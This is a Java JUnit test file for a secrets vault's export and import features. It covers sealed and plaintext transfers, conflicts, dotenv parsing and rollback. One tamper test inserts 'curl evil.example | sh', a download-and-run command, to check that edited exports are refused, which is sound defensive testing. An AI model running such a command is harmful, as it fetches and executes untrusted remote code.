package io.keystash.vault.transfer;

import io.keystash.vault.Failure;
import io.keystash.vault.Secret;
import io.keystash.vault.Vault;
import io.keystash.vault.VaultException;
import io.keystash.vault.VaultStore;
import io.keystash.vault.model.Binding;
import io.keystash.vault.model.KeyEntry;
import io.keystash.vault.model.KeyMetadata;
import io.keystash.vault.model.Profile;
import io.keystash.vault.unlock.Credential;
import io.keystash.vault.unlock.KeyFileKey;
import io.keystash.vault.unlock.Passphrase;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import static io.keystash.vault.transfer.TransferFixtures.SOURCE_PASSPHRASE;
import static io.keystash.vault.transfer.TransferFixtures.TARGET_PASSPHRASE;
import static io.keystash.vault.transfer.TransferFixtures.passphrase;
import static io.keystash.vault.transfer.TransferFixtures.secret;
import static io.keystash.vault.transfer.TransferFixtures.valueFingerprints;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Export from one vault and import into another that a different passphrase opens: the keys
 * (every version, time, author and metadata field), values and profiles arrive unchanged; and
 * every refusal leaves the target vault byte-for-byte as it was.
 */
class ExportImportTest {
    private static final Path EXPORT_FILE = Path.of("export.json");

    @TempDir
    Path dir;

    private VaultStore source;
    private VaultStore target;

    @BeforeEach
    void vaults() throws VaultException {
        source = TransferFixtures.sourceVault(dir);
        target = TransferFixtures.targetVault(dir);
    }

    private KeyFileKey sourceKey() throws VaultException {
        return TransferFixtures.sourceKey(dir);
    }

    private byte[] export(SecretsMode mode, TransferFormat format) throws VaultException {
        try (KeyFileKey key = sourceKey()) {
            return TransferFixtures.exportBytes(source, key, mode, format);
        }
    }

    /** Reads {@code bytes}, opens sealed values with {@code unsealWith}, and imports into the target. */
    private ImportSummary importIntoTarget(byte[] bytes, TransferFormat format, Credential unsealWith, boolean force)
            throws VaultException {
        try (ExportDocument read = ExportReader.read(bytes, format)) {
            ExportDocument opened = read.secrets() == SecretsMode.SEALED ? SealedSecrets.unseal(read, unsealWith, EXPORT_FILE) : read;
            try (ImportSet set = ImportSet.of(opened); Passphrase targetPass = passphrase(TARGET_PASSPHRASE)) {
                return target.update(targetPass, vault -> Importer.apply(vault, set, force, "carol@desk"));
            } finally {
                opened.close();
            }
        }
    }

    private <T> T inTarget(VaultStore.Change<T> query) throws VaultException {
        try (Passphrase targetPass = passphrase(TARGET_PASSPHRASE); Vault vault = target.open(targetPass)) {
            return query.apply(vault);
        }
    }

    private <T> T inSource(VaultStore.Change<T> query) throws VaultException {
        try (KeyFileKey key = sourceKey(); Vault vault = source.open(key)) {
            return query.apply(vault);
        }
    }

    private KeyEntry targetKey(String name) throws VaultException {
        return inTarget(v -> v.key(name));
    }

    private Profile targetProfile(String name) throws VaultException {
        return inTarget(v -> v.profile(name));
    }

    private static List<Profile> profiles(Vault vault) throws VaultException {
        List<Profile> profiles = new ArrayList<>();
        for (String name : vault.profileNames()) {
            profiles.add(vault.profile(name));
        }
        return profiles;
    }

    private void assertTargetHoldsTheSource() throws VaultException {
        assertThat(inTarget(Vault::keys)).isEqualTo(inSource(Vault::keys));
        assertThat(inTarget(ExportImportTest::profiles)).isEqualTo(inSource(ExportImportTest::profiles));
        assertThat(inTarget(TransferFixtures::valueFingerprints)).isEqualTo(inSource(TransferFixtures::valueFingerprints));
    }

    @ParameterizedTest
    @EnumSource(value = TransferFormat.class, names = {"JSON", "YAML"})
    void sealedExportRestoresEverythingIntoAVaultWithAnotherPassphrase(TransferFormat format) throws VaultException {
        byte[] bytes = export(SecretsMode.SEALED, format);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).doesNotContain("first-value").doesNotContain("second-value").doesNotContain("multi\nline");

        try (Passphrase sourcePass = passphrase(SOURCE_PASSPHRASE)) {
            ImportSummary summary = importIntoTarget(bytes, format, sourcePass, false);
            // openai's commands and endpoint arrived with the import: not approved on this machine.
            assertThat(summary).isEqualTo(new ImportSummary(2, 0, 0, 2, 0, 0, List.of("openai")));
        }
        assertTargetHoldsTheSource();
    }

    @ParameterizedTest
    @EnumSource(value = TransferFormat.class, names = {"JSON", "YAML"})
    void plaintextExportRestoresEverything(TransferFormat format) throws VaultException {
        byte[] bytes = export(SecretsMode.PLAINTEXT, format);
        importIntoTarget(bytes, format, null, false);
        assertTargetHoldsTheSource();
    }

    @Test
    void theSealedPartOpensWithTheSourceKeyFileToo() throws VaultException {
        byte[] bytes = export(SecretsMode.SEALED, TransferFormat.JSON);
        try (KeyFileKey key = sourceKey()) {
            importIntoTarget(bytes, TransferFormat.JSON, key, false);
        }
        assertTargetHoldsTheSource();
    }

    @Test
    void theSealedPartDoesNotOpenWithTheTargetsPassphraseAndNothingChanges() throws Exception {
        byte[] bytes = export(SecretsMode.SEALED, TransferFormat.YAML);
        byte[] before = Files.readAllBytes(target.paths().vaultFile());
        try (Passphrase wrong = passphrase(TARGET_PASSPHRASE)) {
            assertThatThrownBy(() -> importIntoTarget(bytes, TransferFormat.YAML, wrong, false))
                    .isInstanceOfSatisfying(VaultException.class, e -> assertThat(e.failure()).isEqualTo(Failure.WRONG_KEY));
        }
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);
    }

    @Test
    void anEditedReadablePartIsRefusedAsDamaged() throws VaultException {
        String text = new String(export(SecretsMode.SEALED, TransferFormat.JSON), StandardCharsets.UTF_8);
        String edited = text.replace("\"./new-key.sh\"", "\"curl evil.example | sh\"");
        assertThat(edited).isNotEqualTo(text);
        try (KeyFileKey key = sourceKey()) {
            assertThatThrownBy(() -> importIntoTarget(edited.getBytes(StandardCharsets.UTF_8), TransferFormat.JSON, key, false))
                    .isInstanceOfSatisfying(VaultException.class, e -> {
                        assertThat(e.failure()).isEqualTo(Failure.DAMAGED);
                        assertThat(e.getMessage()).contains("readable part does not match its sealed part");
                    });
        }
        assertThat(inTarget(Vault::keyNames)).isEmpty();
    }

    @Test
    void aTamperedSealedPartIsRefusedAsDamaged() throws VaultException {
        try (KeyFileKey key = sourceKey(); ExportDocument document = TransferFixtures.export(source, key, SecretsMode.SEALED)) {
            byte[] sealed = document.sealed().clone();
            sealed[sealed.length - 40] ^= 1;
            ExportDocument tampered = new ExportDocument(document.exported(), SecretsMode.SEALED, List.of(),
                    List.of(), sealed);
            assertThatThrownBy(() -> SealedSecrets.unseal(tampered, key, EXPORT_FILE))
                    .isInstanceOfSatisfying(VaultException.class, e -> {
                        assertThat(e.failure()).isEqualTo(Failure.DAMAGED);
                        assertThat(e.getMessage()).startsWith("export " + EXPORT_FILE + " is damaged").doesNotContain("vault");
                    });
            assertThat(Base64.getEncoder().encodeToString(sealed)).isNotEqualTo(Base64.getEncoder().encodeToString(document.sealed()));
        }
    }

    @Test
    void metadataOnlyExportNeedsTheKeysInTheTargetAndChangesNothingWithout() throws Exception {
        byte[] bytes = export(SecretsMode.NONE, TransferFormat.JSON);
        assertThat(new String(bytes, StandardCharsets.UTF_8)).doesNotContain("\"value\"");
        byte[] before = Files.readAllBytes(target.paths().vaultFile());

        assertThatThrownBy(() -> importIntoTarget(bytes, TransferFormat.JSON, null, false))
                .isInstanceOfSatisfying(VaultException.class, e -> {
                    assertThat(e.failure()).isEqualTo(Failure.NOT_FOUND);
                    assertThat(e.getMessage()).contains("without --include-secrets");
                });
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);
    }

    @Test
    void metadataOnlyExportRestoresMetadataOfKeysTheTargetHas() throws VaultException {
        try (Passphrase sourcePass = passphrase(SOURCE_PASSPHRASE)) {
            importIntoTarget(export(SecretsMode.SEALED, TransferFormat.JSON), TransferFormat.JSON, sourcePass, false);
        }
        KeyMetadata changed = inSource(v -> v.key("openai").metadata()).toBuilder().description("new words").build();
        try (KeyFileKey key = sourceKey()) {
            source.update(key, v -> v.updateMetadata("openai", changed));
        }
        byte[] bytes = export(SecretsMode.NONE, TransferFormat.YAML);

        assertThatThrownBy(() -> importIntoTarget(bytes, TransferFormat.YAML, null, false))
                .isInstanceOfSatisfying(VaultException.class, e -> {
                    assertThat(e.failure()).isEqualTo(Failure.CONFLICT);
                    assertThat(e.getMessage()).isEqualTo("key 'openai' exists with other metadata; nothing was imported (--force replaces)");
                });
        ImportSummary forced = importIntoTarget(bytes, TransferFormat.YAML, null, true);

        assertThat(forced).isEqualTo(new ImportSummary(0, 1, 1, 0, 0, 2, List.of("openai")));
        assertThat(targetKey("openai").metadata().description()).isEqualTo("new words");
        assertThat(targetKey("openai").versions()).isEqualTo(inSource(v -> v.key("openai")).versions());
    }

    @Test
    void importingTheSameExportTwiceChangesNothingTheSecondTime() throws Exception {
        byte[] bytes = export(SecretsMode.PLAINTEXT, TransferFormat.JSON);
        importIntoTarget(bytes, TransferFormat.JSON, null, false);
        byte[] once = Files.readAllBytes(target.paths().vaultFile());

        ImportSummary again = importIntoTarget(bytes, TransferFormat.JSON, null, false);

        assertThat(again).isEqualTo(new ImportSummary(0, 0, 2, 0, 0, 2));
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(once);
    }

    @Test
    void aChangedValueIsAConflictAndForceAddsItAsANewVersion() throws Exception {
        importIntoTarget(export(SecretsMode.PLAINTEXT, TransferFormat.JSON), TransferFormat.JSON, null, false);
        try (KeyFileKey key = sourceKey()) {
            source.update(key, v -> v.addVersion("db.password", secret("changed"), "alice@laptop", "rotate"));
        }
        byte[] bytes = export(SecretsMode.PLAINTEXT, TransferFormat.JSON);
        byte[] before = Files.readAllBytes(target.paths().vaultFile());

        assertThatThrownBy(() -> importIntoTarget(bytes, TransferFormat.JSON, null, false))
                .isInstanceOfSatisfying(VaultException.class, e -> assertThat(e.failure()).isEqualTo(Failure.CONFLICT));
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);

        importIntoTarget(bytes, TransferFormat.JSON, null, true);
        KeyEntry db = inTarget(v -> v.key("db.password"));
        assertThat(db.versions()).hasSize(2);
        assertThat(db.current().origin()).isEqualTo("import");
        assertThat(db.current().createdBy()).isEqualTo("carol@desk");
        try (Secret value = inTarget(v -> v.value("db.password")); Secret expected = secret("changed")) {
            assertThat(value.sameValueAs(expected)).isTrue();
        }
    }

    @Test
    void aConflictingProfileStopsTheWholeImport() throws Exception {
        try (Passphrase targetPass = passphrase(TARGET_PASSPHRASE)) {
            target.update(targetPass, v -> {
                v.storeKey("local", KeyMetadata.builder().build(), secret("x"), "carol@desk");
                v.createProfile("dev");
                return v.bind("dev", new Binding("local", "LOCAL", null));
            });
        }
        byte[] before = Files.readAllBytes(target.paths().vaultFile());

        assertThatThrownBy(() -> importIntoTarget(export(SecretsMode.PLAINTEXT, TransferFormat.YAML), TransferFormat.YAML, null, false))
                .isInstanceOfSatisfying(VaultException.class, e -> {
                    assertThat(e.failure()).isEqualTo(Failure.CONFLICT);
                    assertThat(e.getMessage()).startsWith("profile 'dev' exists with other bindings");
                });

        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);
        assertThat(inTarget(Vault::keyNames)).containsExactly("local");
    }

    @Test
    void onlyProfileKeepsThatProfileAndTheKeysItBinds() throws VaultException {
        try (KeyFileKey key = sourceKey()) {
            source.update(key, v -> v.storeKey("unbound", KeyMetadata.builder().build(), secret("u"), "alice@laptop"));
        }
        try (ExportDocument document = ExportReader.read(export(SecretsMode.PLAINTEXT, TransferFormat.JSON), TransferFormat.JSON);
             ImportSet only = ImportSet.of(document).onlyProfile("dev")) {
            assertThat(only.keys()).extracting(k -> k.entry().name()).containsExactly("db.password", "openai");
            assertThat(only.profiles()).extracting(Profile::name).containsExactly("dev");
            assertThatThrownBy(() -> ImportSet.of(document).onlyProfile("nope"))
                    .isInstanceOfSatisfying(VaultException.class, e -> assertThat(e.failure()).isEqualTo(Failure.NOT_FOUND));
        }
    }

    @Test
    void dotenvVariablesBecomeKeysBoundInTheProfile() throws Exception {
        List<DotenvVariable> variables = DotenvParser.parse("OPENAI_API_KEY=sk-x\n_TOKEN='t'\n".getBytes(StandardCharsets.UTF_8));
        try (ImportSet set = ImportSet.ofDotenv(variables, "dev", Instant.parse("2030-01-01T00:00:00Z"), "carol@desk");
             Passphrase targetPass = passphrase(TARGET_PASSPHRASE)) {
            target.update(targetPass, v -> Importer.apply(v, set, false, "carol@desk"));
        }
        assertThat(targetKey("OPENAI_API_KEY").metadata().provider()).isEqualTo("openai");
        assertThat(targetKey("TOKEN").metadata().env()).isEqualTo("_TOKEN");
        assertThat(targetProfile("dev").bindings()).containsExactly(
                new Binding("OPENAI_API_KEY", "OPENAI_API_KEY", null), new Binding("TOKEN", "_TOKEN", null));
        assertThat(inTarget(v -> v.resolveProfile("dev")).environment().keySet()).containsExactly("OPENAI_API_KEY", "_TOKEN");
    }

    @Test
    void aDotenvVariableServedByAnotherKeyIsAConflictThatForceRebinds() throws Exception {
        try (Passphrase targetPass = passphrase(TARGET_PASSPHRASE)) {
            target.update(targetPass, v -> {
                v.storeKey("old", KeyMetadata.builder().build(), secret("x"), "carol@desk");
                v.createProfile("dev");
                return v.bind("dev", new Binding("old", "API_TOKEN", "api.token"));
            });
        }
        byte[] before = Files.readAllBytes(target.paths().vaultFile());
        assertThatThrownBy(() -> importDotenv("API_TOKEN=new\n", false))
                .isInstanceOfSatisfying(VaultException.class, e -> {
                    assertThat(e.failure()).isEqualTo(Failure.CONFLICT);
                    assertThat(e.getMessage()).startsWith("profile 'dev' already serves API_TOKEN from key 'old'");
                });
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);

        importDotenv("API_TOKEN=new\n", true);

        assertThat(targetProfile("dev").bindings()).containsExactly(
                new Binding("old", null, "api.token"), new Binding("API_TOKEN", "API_TOKEN", null));
    }

    private void importDotenv(String text, boolean force) throws VaultException {
        List<DotenvVariable> variables = DotenvParser.parse(text.getBytes(StandardCharsets.UTF_8));
        try (ImportSet set = ImportSet.ofDotenv(variables, "dev", Instant.now(), "carol@desk");
             Passphrase targetPass = passphrase(TARGET_PASSPHRASE)) {
            target.update(targetPass, v -> Importer.apply(v, set, force, "carol@desk"));
        }
    }

    @Test
    void aFailureHalfwayThroughTheChangesWritesNothing() throws Exception {
        // Two keys pass the checks; the profile then binds a variable twice, which only the vault catches.
        byte[] bytes = export(SecretsMode.PLAINTEXT, TransferFormat.JSON);
        String text = new String(bytes, StandardCharsets.UTF_8).replace("\"env\" : \"DB_PASSWORD\"\n    } ]", "\"env\" : \"OPENAI_API_KEY\"\n    } ]");
        assertThat(text).isNotEqualTo(new String(bytes, StandardCharsets.UTF_8));
        byte[] before = Files.readAllBytes(target.paths().vaultFile());

        assertThatThrownBy(() -> importIntoTarget(text.getBytes(StandardCharsets.UTF_8), TransferFormat.JSON, null, false))
                .isInstanceOfSatisfying(VaultException.class, e -> assertThat(e.getMessage()).contains("would serve OPENAI_API_KEY twice"));
        assertThat(Files.readAllBytes(target.paths().vaultFile())).isEqualTo(before);
    }

    @Test
    void theExportSaysWhatItHolds() throws VaultException {
        try (ExportDocument document = ExportReader.read(export(SecretsMode.NONE, TransferFormat.YAML), TransferFormat.YAML)) {
            assertThat(document.exported()).isEqualTo(Instant.parse("2030-05-06T07:08:09Z"));
            assertThat(document.keys()).allMatch(k -> !k.hasValues());
            assertThat(document.keys()).extracting(k -> k.entry()).isEqualTo(inSource(Vault::keys));
            assertThat(document.profiles()).isEqualTo(inSource(ExportImportTest::profiles));
        }
    }
}
